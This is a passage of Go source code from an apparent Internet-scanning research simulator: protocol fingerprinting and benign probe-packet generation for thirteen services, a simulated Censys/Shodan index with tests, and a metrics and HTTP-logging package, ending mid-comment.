	if len(b) >= 4 && (bytes.Equal(b[:4], []byte{0xFF, 'S', 'M', 'B'}) || bytes.Equal(b[:4], []byte{0xFE, 'S', 'M', 'B'})) {
		return true
	}
	return false
}

func isRDP(b []byte) bool {
	// TPKT v3 header + X.224 Connection Request (code 0xE0).
	if len(b) < 7 {
		return false
	}
	if b[0] != 0x03 || b[1] != 0x00 {
		return false
	}
	tpktLen := int(binary.BigEndian.Uint16(b[2:4]))
	if tpktLen < 7 || tpktLen > 4096 {
		return false
	}
	return b[5] == 0xE0
}

func isADB(b []byte) bool {
	// ADB message header: command "CNXN" (0x4E584E43 LE) with magic =
	// command XOR 0xFFFFFFFF at offset 20.
	if len(b) < 24 {
		return false
	}
	cmd := binary.LittleEndian.Uint32(b[0:4])
	if cmd != 0x4E584E43 {
		return false
	}
	magic := binary.LittleEndian.Uint32(b[20:24])
	return magic == cmd^0xFFFFFFFF
}

func isNTP(b []byte) bool {
	// 48-byte packet; LI/VN/Mode first byte: version 2-4, mode 3
	// (client) or 6 (control, used by monlist scans).
	if len(b) != 48 && len(b) != 12 {
		return false
	}
	vn := (b[0] >> 3) & 0x07
	mode := b[0] & 0x07
	if vn < 2 || vn > 4 {
		return false
	}
	return mode == 3 || mode == 6 || mode == 7
}

func isFox(b []byte) bool {
	// Niagara Fox plaintext hello.
	return bytes.HasPrefix(b, []byte("fox a 1 -1 fox hello"))
}

func isTelnet(b []byte) bool {
	// IAC negotiation: 0xFF followed by WILL/WONT/DO/DONT/SB/SE.
	if len(b) < 2 || b[0] != 0xFF {
		return false
	}
	switch b[1] {
	case 0xFB, 0xFC, 0xFD, 0xFE, 0xFA, 0xF0:
		return true
	}
	return false
}

func isRedis(b []byte) bool {
	// RESP array of bulk strings, or common inline commands.
	if bytes.HasPrefix(b, []byte("*")) && bytes.Contains(b, []byte("\r\n$")) {
		return true
	}
	for _, cmd := range [][]byte{[]byte("PING\r\n"), []byte("INFO\r\n"), []byte("info\r\n"), []byte("CONFIG GET")} {
		if bytes.HasPrefix(b, cmd) {
			return true
		}
	}
	return false
}

func isMySQL(b []byte) bool {
	// Client login packet: 3-byte little-endian length, sequence 1,
	// capability flags with CLIENT_PROTOCOL_41 (0x0200).
	if len(b) < 36 {
		return false
	}
	pktLen := int(b[0]) | int(b[1])<<8 | int(b[2])<<16
	if pktLen != len(b)-4 {
		return false
	}
	if b[3] != 1 {
		return false
	}
	caps := binary.LittleEndian.Uint32(b[4:8])
	return caps&0x0200 != 0
}

var httpMethods = [][]byte{
	[]byte("GET "), []byte("POST "), []byte("HEAD "), []byte("PUT "),
	[]byte("DELETE "), []byte("OPTIONS "), []byte("CONNECT "),
	[]byte("TRACE "), []byte("PATCH "),
}

var rtspMethods = [][]byte{
	[]byte("OPTIONS "), []byte("DESCRIBE "), []byte("SETUP "),
	[]byte("PLAY "), []byte("TEARDOWN "), []byte("ANNOUNCE "),
}

var sipMethods = [][]byte{
	[]byte("REGISTER "), []byte("INVITE "), []byte("OPTIONS "),
	[]byte("ACK "), []byte("BYE "), []byte("CANCEL "),
}

// textRequestProtocol distinguishes HTTP/RTSP/SIP request lines. The
// version token at the end of the first line is authoritative; method
// names alone are ambiguous (OPTIONS exists in all three).
func textRequestProtocol(b []byte) Protocol {
	line := b
	if i := bytes.IndexByte(b, '\n'); i >= 0 {
		line = b[:i]
	}
	if len(line) > 0 && line[len(line)-1] == '\r' {
		line = line[:len(line)-1]
	}
	switch {
	case bytes.Contains(line, []byte(" RTSP/")):
		return RTSP
	case bytes.Contains(line, []byte(" SIP/")):
		return SIP
	case bytes.Contains(line, []byte(" HTTP/")):
		if hasMethodPrefix(line, httpMethods) {
			return HTTP
		}
		return Unknown
	}
	// Version token missing (HTTP/0.9-style or truncated capture):
	// fall back to unambiguous method prefixes.
	if hasMethodPrefix(line, rtspMethods) && !hasMethodPrefix(line, httpMethods) && !hasMethodPrefix(line, sipMethods) {
		return RTSP
	}
	if hasMethodPrefix(line, sipMethods) && bytes.Contains(line, []byte("sip:")) {
		return SIP
	}
	if hasMethodPrefix(line, httpMethods) {
		return HTTP
	}
	return Unknown
}

func hasMethodPrefix(line []byte, methods [][]byte) bool {
	for _, m := range methods {
		if bytes.HasPrefix(line, m) {
			return true
		}
	}
	return false
}

// iana maps the well-known ports studied in the paper to their
// IANA-assigned protocol.
var iana = map[uint16]Protocol{
	21:    Unknown, // FTP: not among the 13 fingerprinted protocols
	22:    SSH,
	23:    Telnet,
	25:    Unknown, // SMTP
	80:    HTTP,
	443:   TLS,
	445:   SMB,
	554:   RTSP,
	1911:  Fox,
	2222:  SSH,
	2323:  Telnet,
	3306:  MySQL,
	3389:  RDP,
	5060:  SIP,
	5555:  ADB,
	6379:  Redis,
	8080:  HTTP,
	8443:  TLS,
	30005: Unknown,
}

// Expected returns the IANA-assigned protocol of a port, or Unknown
// when the port has no assignment among the studied protocols.
func Expected(port uint16) Protocol {
	return iana[port]
}

// IsUnexpected reports whether a payload targets a protocol other than
// the port's IANA assignment (§6: "∼Protocol-A/XX ... all protocols
// that are not Protocol-A that target port XX"). Unidentifiable
// payloads are not counted as unexpected — this keeps the measurement
// a lower bound, matching the paper.
func IsUnexpected(port uint16, payload []byte) bool {
	got := Identify(payload)
	if got == Unknown {
		return false
	}
	want := Expected(port)
	if want == Unknown {
		return false
	}
	return got != want
}
