package fingerprint

import (
	"encoding/binary"
	"fmt"
)

// Probe returns a representative first client payload for proto, as a
// scanner targeting that protocol would send. The simulator uses these
// to generate traffic; Identify(Probe(p)) == p for every protocol in
// All(), which the tests enforce.
func Probe(proto Protocol) []byte {
	switch proto {
	case HTTP:
		return []byte("GET / HTTP/1.1\r\nHost: target\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n")
	case TLS:
		return tlsClientHello()
	case SSH:
		return []byte("SSH-2.0-Go_scanner\r\n")
	case Telnet:
		// IAC DO SUPPRESS-GO-AHEAD, IAC WILL TERMINAL-TYPE.
		return []byte{0xFF, 0xFD, 0x03, 0xFF, 0xFB, 0x18}
	case SMB:
		return smbNegotiate()
	case RTSP:
		return []byte("OPTIONS rtsp://target/ RTSP/1.0\r\nCSeq: 1\r\n\r\n")
	case SIP:
		return []byte("OPTIONS sip:target SIP/2.0\r\nVia: SIP/2.0/TCP scanner\r\nCSeq: 1 OPTIONS\r\n\r\n")
	case NTP:
		p := make([]byte, 48)
		p[0] = 0x1B // LI=0, VN=3, Mode=3 (client)
		return p
	case RDP:
		return rdpConnectionRequest()
	case ADB:
		return adbConnect()
	case Fox:
		return []byte("fox a 1 -1 fox hello\n{\nfox.version=s:1.0\nid=i:1\n};;\n")
	case Redis:
		return []byte("*1\r\n$4\r\nPING\r\n")
	case MySQL:
		return mysqlLogin()
	default:
		panic(fmt.Sprintf("fingerprint: no probe for %v", proto))
	}
}

func tlsClientHello() []byte {
	// Minimal syntactically-plausible ClientHello (TLS 1.2 record).
	body := make([]byte, 41)
	body[0] = 0x03
	body[1] = 0x03 // client_version TLS 1.2
	// 32 random bytes left zero, session id length 0, cipher suites
	// length 2, one suite, compression methods length 1, null.
	body[34] = 0
	body[35] = 0
	body[36] = 2
	body[37] = 0x00
	body[38] = 0x2F // TLS_RSA_WITH_AES_128_CBC_SHA
	body[39] = 1
	body[40] = 0

	hs := make([]byte, 4+len(body))
	hs[0] = 0x01 // ClientHello
	hs[1] = byte(len(body) >> 16)
	hs[2] = byte(len(body) >> 8)
	hs[3] = byte(len(body))
	copy(hs[4:], body)

	rec := make([]byte, 5+len(hs))
	rec[0] = 0x16
	rec[1] = 0x03
	rec[2] = 0x01
	binary.BigEndian.PutUint16(rec[3:5], uint16(len(hs)))
	copy(rec[5:], hs)
	return rec
}

func smbNegotiate() []byte {
	// NetBIOS session message framing an SMB1 Negotiate Protocol
	// Request header.
	smb := make([]byte, 35)
	smb[0] = 0xFF
	copy(smb[1:4], "SMB")
	smb[4] = 0x72 // SMB_COM_NEGOTIATE
	out := make([]byte, 4+len(smb))
	out[0] = 0x00
	out[3] = byte(len(smb))
	copy(out[4:], smb)
	return out
}

func rdpConnectionRequest() []byte {
	payload := []byte("Cookie: mstshash=scanner\r\n")
	x224Len := 6 + len(payload)
	tpktLen := 4 + 1 + x224Len
	out := make([]byte, 0, tpktLen)
	out = append(out, 0x03, 0x00)
	out = append(out, byte(tpktLen>>8), byte(tpktLen))
	out = append(out, byte(x224Len), 0xE0, 0, 0, 0, 0, 0)
	out = append(out, payload...)
	return out
}

func adbConnect() []byte {
	msg := make([]byte, 24+5)
	binary.LittleEndian.PutUint32(msg[0:4], 0x4E584E43)   // CNXN
	binary.LittleEndian.PutUint32(msg[4:8], 0x01000000)   // version
	binary.LittleEndian.PutUint32(msg[8:12], 4096)        // maxdata
	binary.LittleEndian.PutUint32(msg[12:16], 5)          // data length
	binary.LittleEndian.PutUint32(msg[20:24], 0xB1A7B1BC) // magic = cmd ^ 0xFFFFFFFF
	copy(msg[24:], "host:")
	return msg
}

func mysqlLogin() []byte {
	body := make([]byte, 32+len("scanner")+1)
	binary.LittleEndian.PutUint32(body[0:4], 0x0200|0x8000|0x00080000) // PROTOCOL_41 | SECURE_CONNECTION | PLUGIN_AUTH
	binary.LittleEndian.PutUint32(body[4:8], 1<<24)                    // max packet
	body[8] = 33                                                       // utf8 charset
	copy(body[32:], "scanner")
	out := make([]byte, 4+len(body))
	out[0] = byte(len(body))
	out[1] = byte(len(body) >> 8)
	out[2] = byte(len(body) >> 16)
	out[3] = 1 // sequence
	copy(out[4:], body)
	return out
}
