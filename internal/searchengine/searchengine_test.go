package searchengine

import (
	"testing"
	"time"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

func leakUniverse(t *testing.T) *netsim.Universe {
	t.Helper()
	targets := []*netsim.Target{
		{ID: "fleet:0", IP: wire.MustParseAddr("10.0.0.1"), Region: "fleet",
			Ports: []uint16{22, 80}},
		{ID: "leak:control", IP: wire.MustParseAddr("10.0.0.2"), Region: "leak",
			Ports: []uint16{22, 80}, BlockSearch: true},
		{ID: "leak:censys80", IP: wire.MustParseAddr("10.0.0.3"), Region: "leak",
			Ports: []uint16{22, 80}, LeakEngine: "censys", LeakPort: 80},
		{ID: "leak:prev", IP: wire.MustParseAddr("10.0.0.4"), Region: "leak",
			Ports: []uint16{22, 80}, BlockSearch: true, PrevIndexed: true},
	}
	u, err := netsim.NewUniverse(1, 2021, targets)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

func TestCrawlHonorsControls(t *testing.T) {
	u := leakUniverse(t)
	censys := New("censys")
	shodan := New("shodan")
	now := time.Now()
	censys.Crawl(u, now)
	shodan.Crawl(u, now)

	fleet := wire.MustParseAddr("10.0.0.1")
	control := wire.MustParseAddr("10.0.0.2")
	leaked := wire.MustParseAddr("10.0.0.3")
	prev := wire.MustParseAddr("10.0.0.4")

	if !censys.Indexed(fleet, 22) || !censys.Indexed(fleet, 80) {
		t.Error("fleet target should be fully indexed")
	}
	if censys.IndexedHost(control) || shodan.IndexedHost(control) {
		t.Error("control group must not be indexed")
	}
	if !censys.Indexed(leaked, 80) {
		t.Error("censys must index the leaked port")
	}
	if censys.Indexed(leaked, 22) {
		t.Error("censys must not index the non-leaked port")
	}
	if shodan.IndexedHost(leaked) {
		t.Error("shodan must not index a censys-leaked host")
	}
	if censys.IndexedHost(prev) {
		t.Error("previously-leaked host is blocked from live indexing")
	}
	if !censys.Historical(prev) {
		t.Error("previously-leaked host must appear in history")
	}
	if !censys.Historical(fleet) {
		t.Error("live-indexed host enters history")
	}
	if censys.Historical(control) {
		t.Error("control host must have no history")
	}
}

func TestCrawlSetsTargetFlags(t *testing.T) {
	u := leakUniverse(t)
	New("censys").Crawl(u, time.Now())
	leaked, _ := u.ByID("leak:censys80")
	if !leaked.IndexedCensys {
		t.Error("IndexedCensys flag not set")
	}
	if leaked.IndexedShodan {
		t.Error("IndexedShodan set without a shodan crawl")
	}
}

func TestSearchSortedAndSized(t *testing.T) {
	u := leakUniverse(t)
	e := New("censys")
	e.Crawl(u, time.Now())
	got := e.Search(80)
	if len(got) != 2 {
		t.Fatalf("Search(80) = %v", got)
	}
	if got[0] > got[1] {
		t.Error("Search results must be sorted")
	}
	if e.Size() != 3 { // fleet:22, fleet:80, leaked:80
		t.Errorf("Size = %d, want 3", e.Size())
	}
}

func TestIndexedAtFirstWins(t *testing.T) {
	u := leakUniverse(t)
	e := New("censys")
	t0 := time.Date(2021, 6, 30, 0, 0, 0, 0, time.UTC)
	e.Crawl(u, t0)
	e.Crawl(u, t0.Add(24*time.Hour)) // re-crawl must not move timestamps
	ts, ok := e.IndexedAt(wire.MustParseAddr("10.0.0.1"), 80)
	if !ok || !ts.Equal(t0) {
		t.Errorf("IndexedAt = %v, %v; want %v", ts, ok, t0)
	}
	if _, ok := e.IndexedAt(wire.MustParseAddr("10.0.0.2"), 80); ok {
		t.Error("control group should have no index timestamp")
	}
}
