// Package searchengine simulates the two Internet-service search
// engines the paper studies — Censys and Shodan (§4.3) — at the
// granularity the experiment needs: which (IP, port) services each
// engine has indexed, honoring per-target blocking (the control
// group), per-target leak controls (the leaked group: one engine may
// discover one service), and service history (the previously-leaked
// group). Attacker actors mine these indexes to pick targets, which is
// what produces Table 3's fold increases.
package searchengine

import (
	"sort"
	"time"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

// Engine is one service search engine's index.
type Engine struct {
	Name  string // "censys" or "shodan"
	index map[wire.Addr]map[uint16]time.Time
	hist  map[wire.Addr]bool // historical (pre-study) index entries
}

// New returns an empty engine named name.
func New(name string) *Engine {
	return &Engine{
		Name:  name,
		index: map[wire.Addr]map[uint16]time.Time{},
		hist:  map[wire.Addr]bool{},
	}
}

// Crawl scans every service target of the universe and indexes what
// the engine is allowed to see:
//
//   - BlockSearch targets are invisible (the experiment "blocklists
//     the IPs they scan with");
//   - leaked-group targets expose only LeakPort, and only to the
//     engine named by LeakEngine;
//   - every other target exposes all its ports.
//
// Previously-leaked targets additionally enter the engine's historical
// record, as do any targets indexed live.
func (e *Engine) Crawl(u *netsim.Universe, when time.Time) {
	for _, t := range u.ServiceTargets() {
		if t.PrevIndexed {
			e.hist[t.IP] = true
		}
		if t.BlockSearch {
			continue
		}
		if t.LeakEngine != "" {
			if t.LeakEngine != e.Name {
				continue
			}
			e.add(t.IP, t.LeakPort, when)
			e.markIndexed(t)
			continue
		}
		for _, port := range t.Ports {
			e.add(t.IP, port, when)
		}
		if len(t.Ports) > 0 {
			e.markIndexed(t)
		}
	}
}

func (e *Engine) markIndexed(t *netsim.Target) {
	switch e.Name {
	case "censys":
		t.IndexedCensys = true
	case "shodan":
		t.IndexedShodan = true
	}
	e.hist[t.IP] = true
}

func (e *Engine) add(ip wire.Addr, port uint16, when time.Time) {
	m, ok := e.index[ip]
	if !ok {
		m = map[uint16]time.Time{}
		e.index[ip] = m
	}
	if _, exists := m[port]; !exists {
		m[port] = when
	}
}

// Indexed reports whether the engine currently lists (ip, port).
func (e *Engine) Indexed(ip wire.Addr, port uint16) bool {
	m, ok := e.index[ip]
	if !ok {
		return false
	}
	_, ok = m[port]
	return ok
}

// IndexedHost reports whether any service of ip is indexed.
func (e *Engine) IndexedHost(ip wire.Addr) bool {
	return len(e.index[ip]) > 0
}

// Historical reports whether ip ever appeared in the engine's index,
// including pre-study history — the information source of actors that
// do not refresh their view ("the nmap scanners source only up-to-date
// information", so they are the ones that skip this).
func (e *Engine) Historical(ip wire.Addr) bool { return e.hist[ip] }

// Search returns the indexed addresses serving port, sorted for
// determinism — the miner actors' query primitive.
func (e *Engine) Search(port uint16) []wire.Addr {
	var out []wire.Addr
	for ip, ports := range e.index {
		if _, ok := ports[port]; ok {
			out = append(out, ip)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// IndexedAt returns when (ip, port) first entered the index.
func (e *Engine) IndexedAt(ip wire.Addr, port uint16) (time.Time, bool) {
	m, ok := e.index[ip]
	if !ok {
		return time.Time{}, false
	}
	ts, ok := m[port]
	return ts, ok
}

// Size returns the number of indexed (ip, port) services.
func (e *Engine) Size() int {
	n := 0
	for _, ports := range e.index {
		n += len(ports)
	}
	return n
}
