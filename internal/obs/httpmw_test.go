package obs

import (
	"bytes"
	"encoding/json"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestHTTPMiddlewareLogging asserts the middleware emits exactly one
// structured log line per request, with the incoming X-Request-ID
// propagated (or a fresh one generated) and the matched ServeMux
// pattern as the route.
func TestHTTPMiddlewareLogging(t *testing.T) {
	var buf bytes.Buffer
	logger := slog.New(slog.NewJSONHandler(&buf, nil))

	mux := http.NewServeMux()
	mux.HandleFunc("GET /v1/widget/{id}", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusNoContent)
	})
	h := HTTPMiddleware(logger, mux)

	// Request 1: caller supplies a request id; it must thread through
	// to the response header and the log line.
	req := httptest.NewRequest("GET", "/v1/widget/7", nil)
	req.Header.Set(RequestIDHeader, "proxy-id-123")
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	if got := rec.Header().Get(RequestIDHeader); got != "proxy-id-123" {
		t.Errorf("response %s = %q, want proxy-id-123", RequestIDHeader, got)
	}

	// Request 2: no incoming id; one is generated and echoed.
	rec2 := httptest.NewRecorder()
	h.ServeHTTP(rec2, httptest.NewRequest("GET", "/v1/widget/8", nil))
	genID := rec2.Header().Get(RequestIDHeader)
	if len(genID) != 16 {
		t.Errorf("generated request id %q, want 16 hex chars", genID)
	}

	// Request 3: no route matches; labeled "unmatched", status 404.
	rec3 := httptest.NewRecorder()
	h.ServeHTTP(rec3, httptest.NewRequest("GET", "/nope", nil))

	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 3 {
		t.Fatalf("got %d log lines, want 3:\n%s", len(lines), buf.String())
	}
	var entries []map[string]any
	for _, line := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("log line is not JSON: %q: %v", line, err)
		}
		entries = append(entries, m)
	}
	checks := []struct {
		requestID string
		route     string
		status    float64
	}{
		{"proxy-id-123", "GET /v1/widget/{id}", 204},
		{genID, "GET /v1/widget/{id}", 204},
		{entries[2]["request_id"].(string), "unmatched", 404},
	}
	for i, want := range checks {
		e := entries[i]
		if e["msg"] != "request" || e["method"] != "GET" {
			t.Errorf("line %d: msg/method = %v/%v", i, e["msg"], e["method"])
		}
		if e["request_id"] != want.requestID {
			t.Errorf("line %d: request_id = %v, want %v", i, e["request_id"], want.requestID)
		}
		if e["route"] != want.route {
			t.Errorf("line %d: route = %v, want %v", i, e["route"], want.route)
		}
		if e["status"] != want.status {
			t.Errorf("line %d: status = %v, want %v", i, e["status"], want.status)
		}
		if _, ok := e["latency"]; !ok {
			t.Errorf("line %d: missing latency attr", i)
		}
	}
}

// TestHTTPMiddlewareNilLogger: a nil logger disables logging but the
// wrapped handler still serves and the request id still round-trips.
func TestHTTPMiddlewareNilLogger(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /ok", func(w http.ResponseWriter, r *http.Request) {})
	h := HTTPMiddleware(nil, mux)
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/ok", nil))
	if rec.Code != http.StatusOK {
		t.Errorf("status = %d, want 200", rec.Code)
	}
	if rec.Header().Get(RequestIDHeader) == "" {
		t.Error("request id missing with nil logger")
	}
}
