// Package obs is the production observability core of the serving
// stack: a stdlib-only metrics registry (atomic counters, gauges, and
// fixed-bucket latency histograms with Prometheus text and JSON
// exposition), cheap stage tracing with a bounded ring of recent spans,
// an HTTP request-logging middleware over log/slog, and the build
// version stamp. Everything instruments without changing instrumented
// output: metrics are side channels, and a disabled tracer
// (SetEnabled(false)) turns spans into no-ops so benchmarks can price
// the instrumentation itself.
package obs

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Label is one metric dimension, e.g. {outcome, recovered} on
// store_recovery_total. Families with labels expose one time series
// per distinct label set.
type Label struct {
	Key   string
	Value string
}

// L is shorthand for a single label.
func L(key, value string) Label { return Label{Key: key, Value: value} }

// Counter is a monotonically increasing atomic counter.
type Counter struct{ v atomic.Int64 }

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n (n must be >= 0 for the counter to stay monotone; the
// type does not police it, misuse just yields a nonsensical series).
func (c *Counter) Add(n int64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() int64 { return c.v.Load() }

// Gauge is an atomic instantaneous value (cache occupancy, in-flight
// requests); it moves both ways.
type Gauge struct{ v atomic.Int64 }

// Set replaces the value.
func (g *Gauge) Set(n int64) { g.v.Store(n) }

// Add moves the value by n (negative to decrement).
func (g *Gauge) Add(n int64) { g.v.Add(n) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// Histogram is a fixed-bucket latency histogram: observations in
// seconds land in the first bucket whose upper bound is >= the value
// (Prometheus `le` semantics), with an implicit +Inf overflow bucket.
// Observation is lock-free: one atomic add on the bucket, the count,
// and the nanosecond sum.
type Histogram struct {
	bounds []float64 // ascending upper bounds, seconds
	counts []atomic.Uint64
	inf    atomic.Uint64
	sumNS  atomic.Int64
	count  atomic.Uint64
}

// DefaultLatencyBuckets spans 100µs to 10s — wide enough for a
// sub-millisecond cached render and a multi-second paper-scale epoch
// generation on the same axis.
var DefaultLatencyBuckets = []float64{
	0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005, 0.01,
	0.025, 0.05, 0.1, 0.25, 0.5, 1, 2.5, 5, 10,
}

// Observe records one observation in seconds.
func (h *Histogram) Observe(seconds float64) {
	i := 0
	for i < len(h.bounds) && seconds > h.bounds[i] {
		i++
	}
	if i < len(h.bounds) {
		h.counts[i].Add(1)
	} else {
		h.inf.Add(1)
	}
	h.count.Add(1)
	h.sumNS.Add(int64(seconds * 1e9))
}

// ObserveDuration records one observed duration.
func (h *Histogram) ObserveDuration(d time.Duration) { h.Observe(d.Seconds()) }

// Count returns the total number of observations.
func (h *Histogram) Count() uint64 { return h.count.Load() }

// Sum returns the sum of all observations, in seconds.
func (h *Histogram) Sum() float64 { return float64(h.sumNS.Load()) / 1e9 }

// cumulative returns the per-bound cumulative counts (Prometheus
// bucket semantics) plus the total including the +Inf bucket.
func (h *Histogram) cumulative() (counts []uint64, total uint64) {
	counts = make([]uint64, len(h.bounds))
	for i := range h.bounds {
		total += h.counts[i].Load()
		counts[i] = total
	}
	total += h.inf.Load()
	return counts, total
}

// Quantile estimates the q-quantile (0 < q < 1) in seconds by linear
// interpolation inside the holding bucket, the way Prometheus'
// histogram_quantile does. It returns 0 with ok=false before any
// observation. Observations beyond the last finite bound clamp to it.
func (h *Histogram) Quantile(q float64) (seconds float64, ok bool) {
	counts, total := h.cumulative()
	if total == 0 {
		return 0, false
	}
	rank := q * float64(total)
	prev := uint64(0)
	lower := 0.0
	for i, c := range counts {
		if float64(c) >= rank {
			span := float64(c - prev)
			if span == 0 {
				return h.bounds[i], true
			}
			return lower + (h.bounds[i]-lower)*(rank-float64(prev))/span, true
		}
		prev, lower = c, h.bounds[i]
	}
	return h.bounds[len(h.bounds)-1], true // in the +Inf bucket: clamp
}

// Metric kinds, as exposed in the Prometheus TYPE line and the JSON
// snapshot.
const (
	KindCounter   = "counter"
	KindGauge     = "gauge"
	KindHistogram = "histogram"
)

// family is every time series sharing one metric name: a fixed kind
// and help string plus one child per distinct label set.
type family struct {
	name   string
	help   string
	kind   string
	bounds []float64 // histogram families only

	mu       sync.Mutex
	children map[string]*child
}

type child struct {
	labels []Label // sorted by key
	m      any     // *Counter, *Gauge, or *Histogram, per family kind
}

// Registry holds metric families and hands out their children.
// Lookups are cheap but not free — hot paths should capture the
// returned handle once, not re-resolve it per operation.
type Registry struct {
	mu   sync.RWMutex
	fams map[string]*family
}

// NewRegistry returns an empty registry. Most code uses Default();
// fresh registries are for tests that need isolation.
func NewRegistry() *Registry { return &Registry{fams: map[string]*family{}} }

// defaultRegistry is the process-wide registry every package-level
// instrument registers into and /metrics exposes.
var defaultRegistry = NewRegistry()

// Default returns the process-wide registry.
func Default() *Registry { return defaultRegistry }

// labelKey canonicalizes a label set (sorted by key) into a map key.
func labelKey(labels []Label) string {
	var b strings.Builder
	for _, l := range labels {
		b.WriteString(l.Key)
		b.WriteByte(1)
		b.WriteString(l.Value)
		b.WriteByte(2)
	}
	return b.String()
}

// fam returns (creating if needed) the family of a name, panicking on
// a kind mismatch — two call sites registering one name as different
// types is a programming error no test should let through.
func (r *Registry) fam(name, help, kind string, bounds []float64) *family {
	r.mu.RLock()
	f := r.fams[name]
	r.mu.RUnlock()
	if f == nil {
		r.mu.Lock()
		if f = r.fams[name]; f == nil {
			f = &family{name: name, help: help, kind: kind, bounds: bounds, children: map[string]*child{}}
			r.fams[name] = f
		}
		r.mu.Unlock()
	}
	if f.kind != kind {
		panic(fmt.Sprintf("obs: metric %q registered as %s and %s", name, f.kind, kind))
	}
	return f
}

// childOf returns (creating if needed) the child of a label set.
func (f *family) childOf(labels []Label, make func() any) any {
	sorted := append([]Label(nil), labels...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Key < sorted[j].Key })
	key := labelKey(sorted)
	f.mu.Lock()
	defer f.mu.Unlock()
	c := f.children[key]
	if c == nil {
		c = &child{labels: sorted, m: make()}
		f.children[key] = c
	}
	return c.m
}

// Counter returns the counter of name+labels, registering it on first
// use. Repeated calls with the same name and labels return the same
// counter.
func (r *Registry) Counter(name, help string, labels ...Label) *Counter {
	f := r.fam(name, help, KindCounter, nil)
	return f.childOf(labels, func() any { return &Counter{} }).(*Counter)
}

// Gauge returns the gauge of name+labels, registering it on first use.
func (r *Registry) Gauge(name, help string, labels ...Label) *Gauge {
	f := r.fam(name, help, KindGauge, nil)
	return f.childOf(labels, func() any { return &Gauge{} }).(*Gauge)
}

// Histogram returns the histogram of name+labels with the given bucket
// upper bounds (nil means DefaultLatencyBuckets), registering it on
// first use. Bounds are fixed at family registration; later calls
// reuse the family's.
func (r *Registry) Histogram(name, help string, bounds []float64, labels ...Label) *Histogram {
	if bounds == nil {
		bounds = DefaultLatencyBuckets
	}
	f := r.fam(name, help, KindHistogram, bounds)
	return f.childOf(labels, func() any {
		return &Histogram{bounds: f.bounds, counts: make([]atomic.Uint64, len(f.bounds))}
	}).(*Histogram)
}

// families returns the registered families sorted by name, and each
// family's children sorted by label key — the deterministic order both
// expositions use.
func (r *Registry) families() []*family {
	r.mu.RLock()
	fams := make([]*family, 0, len(r.fams))
	for _, f := range r.fams {
		fams = append(fams, f)
	}
	r.mu.RUnlock()
	sort.Slice(fams, func(i, j int) bool { return fams[i].name < fams[j].name })
	return fams
}

func (f *family) sortedChildren() []*child {
	f.mu.Lock()
	cs := make([]*child, 0, len(f.children))
	keys := make([]string, 0, len(f.children))
	for k := range f.children {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		cs = append(cs, f.children[k])
	}
	f.mu.Unlock()
	return cs
}

// formatFloat renders a float the way Prometheus expects: shortest
// round-trip representation.
func formatFloat(v float64) string { return strconv.FormatFloat(v, 'g', -1, 64) }
