package obs

import (
	"crypto/rand"
	"encoding/hex"
	"log/slog"
	"net/http"
	"strconv"
	"sync/atomic"
	"time"
)

// HTTP observability: a middleware that wraps a mux with per-route
// request counting, latency histograms, an in-flight gauge, and one
// structured request log line per request (method, route, status,
// latency, request id). The request id honors an incoming
// X-Request-ID (so a proxy's id threads through the logs) and
// generates one otherwise; either way it is echoed on the response.

// RequestIDHeader is the request-id passthrough header.
const RequestIDHeader = "X-Request-ID"

// statusRecorder captures the response status for metrics and logs.
// The handlers behind it write JSON bodies; no hijacking or flushing
// interface needs forwarding, and Unwrap covers http.ResponseController
// users.
type statusRecorder struct {
	http.ResponseWriter
	status int
}

func (sr *statusRecorder) WriteHeader(code int) {
	if sr.status == 0 {
		sr.status = code
	}
	sr.ResponseWriter.WriteHeader(code)
}

func (sr *statusRecorder) Write(b []byte) (int, error) {
	if sr.status == 0 {
		sr.status = http.StatusOK
	}
	return sr.ResponseWriter.Write(b)
}

func (sr *statusRecorder) Unwrap() http.ResponseWriter { return sr.ResponseWriter }

// reqSeq seeds fallback request ids if the random source ever fails.
var reqSeq atomic.Uint64

// newRequestID returns a fresh 16-hex-char request id.
func newRequestID() string {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		return "req-" + strconv.FormatUint(reqSeq.Add(1), 16)
	}
	return hex.EncodeToString(b[:])
}

// HTTPMetrics is the per-route instrument set HTTPMiddleware records
// into, resolved once at wrap time.
type httpMetrics struct {
	reg      *Registry
	inFlight *Gauge
}

// HTTPMiddleware wraps next with request observability on the default
// registry: http_requests_total{route}, http_request_duration_seconds
// {route}, the http_in_flight_requests gauge, and one slog line per
// request on logger (nil disables logging but keeps the metrics). The
// route label is the ServeMux pattern that matched (requests no
// pattern claimed are labeled "unmatched"), so label cardinality is
// bounded by the API surface, not by request paths.
func HTTPMiddleware(logger *slog.Logger, next http.Handler) http.Handler {
	m := &httpMetrics{
		reg:      Default(),
		inFlight: Default().Gauge("http_in_flight_requests", "Requests currently being served."),
	}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reqID := r.Header.Get(RequestIDHeader)
		if reqID == "" {
			reqID = newRequestID()
		}
		w.Header().Set(RequestIDHeader, reqID)

		sr := &statusRecorder{ResponseWriter: w}
		m.inFlight.Add(1)
		start := time.Now()
		next.ServeHTTP(sr, r)
		elapsed := time.Since(start)
		m.inFlight.Add(-1)

		// r.Pattern is populated by the ServeMux during dispatch, so it
